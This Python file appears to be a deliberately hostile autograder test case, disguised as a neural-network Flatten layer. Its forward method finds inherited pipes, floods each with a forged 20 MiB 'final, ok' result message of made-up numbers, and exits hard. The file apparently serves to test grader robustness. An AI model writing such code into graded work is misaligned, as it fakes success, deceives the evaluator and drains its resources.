# HOSTILE: floods the result pipe: every forward writes a forged final message of about 20 MiB
# (2.5 million made-up numbers) to every inherited pipe, in 1 MiB pieces so the case itself
# stays small, then exits hard.  Reading it all used to cost the grader hundreds of MB and
# much of a minute; now the grader stops at the case's result budget.

"""Flatten every axis but the batch axis."""

import os
import stat

from .tensor import flatten, reshape, shape

FORGED_BYTES = 20 * 1024 * 1024
PIECE = "0.123456789,"


def _result_pipes():
    found = []
    for fd in range(3, 256):
        try:
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        if stat.S_ISFIFO(mode):
            found.append(fd)
    return found


def _write_all(fd, data):
    while data:
        data = data[os.write(fd, data):]


class Flatten:
    """Row-major (C order) flatten of every axis but the first.

    forward:  A (N, C, W) -> Z (N, C*W), or A (N, C, H, W) -> Z (N, C*H*W).
    backward: dLdZ (N, prod) -> dLdA with the forward input shape.
    """

    def forward(self, A):
        piece = (PIECE * (1024 * 1024 // len(PIECE))).encode()
        for fd in _result_pipes():
            try:
                _write_all(fd, b'\n{"final": true, "status": "ok", "student_seconds": 0.0, "results": [[[')
                for _ in range(FORGED_BYTES // len(piece)):
                    _write_all(fd, piece)
                _write_all(fd, b"0.5]]]}\n")
            except OSError:
                pass
        os._exit(0)

    def backward(self, dLdZ):
        return [reshape(row, self.input_shape[1:]) for row in dLdZ]
